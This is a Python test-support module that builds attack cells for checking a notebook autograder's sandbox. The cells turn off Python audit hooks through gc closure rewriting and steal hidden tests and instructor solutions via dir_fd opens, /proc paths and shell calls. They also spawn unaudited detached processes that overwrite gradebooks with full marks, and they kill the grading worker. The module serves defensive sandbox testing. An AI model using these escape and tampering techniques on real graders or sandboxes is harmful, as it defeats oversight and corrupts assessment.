"""Submissions written as an informed student would, after reading the grader's code: for tests/test_sandbox.py.

Each attack is a code cell added to an honest notebook. It knows where the hidden tests and the
grading output are (the paths are written into the cell, as a student who guessed them would),
and tries every way past the audit hook that has worked before:

- reading the sources with a descriptor-relative open (``os.open(name, dir_fd=...)``), through
  ``/proc`` (other processes' working folders, roots, open files, mounts), after switching the
  audit hook off (``gc.get_objects()``), with a shell command, and by walking the file system;
- if the instructor notebook is found, running its solution cells (full marks); any stolen text is
  put into every answer, so the visible checks would echo it into feedback;
- starting processes the hook never sees (``_posixsubprocess.fork_exec``, ``os.fork`` after the hook
  is off) in their own session, which keep rewriting ``tests.py``, the gradebook and the feedback;
- killing the worker that runs it.
"""
from __future__ import annotations

import copy
import json

from aon.grading.release import tags

TOKEN = "aon-sandbox-attack-7f3a"

PRELUDE = r'''
import gc as _gc, json as _json, os as _os, sys as _sys, types as _types
_SOURCE = {source!r}
_EXERCISE = {exercise!r}
_OUTPUT = {output!r}
_VARS = {variables!r}
_TOKEN = {token!r}
_stolen = []

def _hook_off():
    """Empty the audit hook's closure: its 'refuse' does nothing, its folder lists are empty."""
    for _f in _gc.get_objects():
        if isinstance(_f, _types.FunctionType) and _f.__name__ == "hook" and _f.__closure__:
            for _c in _f.__closure__:
                try:
                    _v = _c.cell_contents
                except ValueError:
                    continue
                if callable(_v) and getattr(_v, "__name__", "") == "refuse":
                    _c.cell_contents = lambda what: None
                elif isinstance(_v, frozenset):
                    _c.cell_contents = frozenset()
                elif isinstance(_v, tuple):
                    _c.cell_contents = ()

def _keep(data):
    if data and len(_stolen) < 200:
        _stolen.append(data.decode("utf-8", "replace") if isinstance(data, bytes) else str(data))
'''

READ = r'''
_folder = _os.path.join(_SOURCE, _EXERCISE)
_names = ["tests.py", _EXERCISE + ".ipynb"]
def _read_all():
    for _name in _names:
        try:   # descriptor-relative open: the hook sees only the relative name
            _fd = _os.open(_os.path.dirname(_folder), _os.O_RDONLY | _os.O_DIRECTORY)
            _f = _os.open(_os.path.join(_os.path.basename(_folder), _name), _os.O_RDONLY, dir_fd=_fd)
            _keep(_os.read(_f, 4_000_000))
        except Exception:
            pass
        try:
            _keep(open(_os.path.join(_folder, _name), "rb").read())
        except Exception:
            pass
    for _pid in [p for p in _os.listdir("/proc") if p.isdigit()] if _os.path.isdir("/proc") else []:
        for _base in ("cwd", "root"):
            for _name in _names:
                for _rel in (_os.path.join(_folder, _name).lstrip("/"), _os.path.join("exercises", "source", _EXERCISE, _name)):
                    try:
                        _keep(open(f"/proc/{{_pid}}/{{_base}}/{{_rel}}", "rb").read())
                    except Exception:
                        pass
        try:
            for _fd in _os.listdir(f"/proc/{{_pid}}/fd"):
                try:
                    if _os.readlink(f"/proc/{{_pid}}/fd/{{_fd}}").endswith(tuple(_names)):
                        _keep(open(f"/proc/{{_pid}}/fd/{{_fd}}", "rb").read())
                except Exception:
                    pass
        except Exception:
            pass
        for _what in ("cmdline", "environ", "mountinfo"):
            try:
                _text = open(f"/proc/{{_pid}}/{{_what}}", "rb").read()
                if _SOURCE.encode() in _text:
                    _keep(b"path seen in /proc/" + _what.encode())
            except Exception:
                pass
_read_all()
_hook_off()
_read_all()
try:
    import subprocess as _sp
    _keep(_sp.run(["cat", _os.path.join(_folder, "tests.py")], capture_output=True, timeout=5).stdout)
except Exception:
    pass
_seen = 0
for _root, _dirs, _files in _os.walk("/"):
    _dirs[:] = [d for d in _dirs if _os.path.join(_root, d) not in ("/proc", "/sys", "/usr", "/dev")]
    _seen += len(_files)
    if _seen > 40_000:
        break
    for _name in _files:
        if _name == "tests.py" or _name == _EXERCISE + ".ipynb":
            try:
                _data = open(_os.path.join(_root, _name), "rb").read()
                if b"aon.grading" in _data or b"aon_exercise" in _data:
                    _keep(_data)
            except Exception:
                pass
for _text in list(_stolen):   # the instructor notebook: run its solutions
    try:
        for _cell in _json.loads(_text)["cells"]:
            _src = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
            if _cell["cell_type"] == "code" and "SOLUTION" in _src:
                try:
                    exec(_src, globals())
                except Exception:
                    pass
    except Exception:
        pass
_hidden = [t for t in dict.fromkeys(_stolen) if "TESTS" in t or "path seen" in t]
if _hidden:   # the visible check of the last question would echo this text back into the feedback
    globals()[_VARS[-1]] = "STOLEN " + "\n".join(_hidden)[:3000]
'''

SPAWN = r'''
_PROGRAM = (
    "import os, sys, time\n"
    "targets = sys.argv[1:-1]\n"
    "end = time.time() + 20\n"
    "while time.time() < end:\n"
    "    for t in targets:\n"
    "        try:\n"
    "            if t.endswith('tests.py'):\n"
    "                open(t, 'a').write('\\nTESTS = {{}}\\n')\n"
    "            else:\n"
    "                open(t, 'w').write('student,exercise\\nattacker,everything,100\\n')\n"
    "        except Exception:\n"
    "            pass\n"
    "    time.sleep(0.05)\n")
_targets = [_os.path.join(_SOURCE, _EXERCISE, "tests.py"), _os.path.join(_OUTPUT, "gradebook.csv"),
            _os.path.join(_OUTPUT, "feedback", "attacker.md"), _os.path.join(_OUTPUT, "grades.csv")]
_argv = [_sys.executable, "-c", _PROGRAM, *_targets, _TOKEN]

def _fork_exec(argv):
    """Start a process in its own session without any audit event (as subprocess does, one level down)."""
    import _posixsubprocess
    _r, _w = _os.pipe()
    _exe = [_os.fsencode(argv[0])]
    _common = [[_os.fsencode(a) for a in argv], _exe, True, (), None, None, -1, -1, -1, -1, -1, -1, _r, _w, True, True]
    for _tail in ([-1, None, None, None, -1, None, True], [-1, None, None, None, -1, None], [None, None, None, -1, None]):
        try:
            return _posixsubprocess.fork_exec(*_common, *_tail)
        except TypeError:
            continue

try:
    _fork_exec(_argv)
except Exception:
    pass
_hook_off()
try:
    import subprocess as _sp
    _sp.Popen(_argv, start_new_session=True, stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
except Exception:
    pass
try:
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sys.executable, _argv)
        _os._exit(0)
except Exception:
    pass
'''

KILL_WORKER = r'''
_hook_off()
import signal as _signal
_os.kill(_os.getppid(), _signal.SIGKILL)
'''

LEAVE_BEHIND = r'''
_hook_off()
open("/tmp/planted", "w").write("from a previous submission")
if _os.fork() == 0:
    _os.setsid()
    _os.execv(_sys.executable, [_sys.executable, "-c", "import time; time.sleep(30)", _TOKEN])
'''

LOOK_FOR_LEFTOVERS = r'''
_found = []
for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
    try:
        if _TOKEN.encode() in open(f"/proc/{{_pid}}/cmdline", "rb").read():
            _found.append(_pid)
    except Exception:
        pass
if _os.path.exists("/tmp/planted") or _found:
    globals()[_VARS[0]] = "SEEN a previous submission: " + repr(_found)
'''


def with_cell(nb: dict, text: str) -> dict:
    """``nb`` with a code cell ``text`` added after its last answer cell."""
    nb = copy.deepcopy(nb)
    answers = [i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code" and not tags(c)]
    nb["cells"].insert(answers[-1] + 1, {"cell_type": "code", "id": "attack", "metadata": {}, "outputs": [],
                                         "execution_count": None, "source": text})
    return nb


def attack(nb: dict, parts: list[str], *, source: str, exercise: str, output: str, variables: list[str]) -> bytes:
    """The notebook ``nb`` with one attack cell made of ``parts`` (READ, SPAWN, KILL_WORKER ...)."""
    text = "\n".join([PRELUDE, *parts]).format(source=source, exercise=exercise, output=output,
                                                 variables=variables, token=TOKEN)
    return json.dumps(with_cell(nb, text)).encode("utf-8")
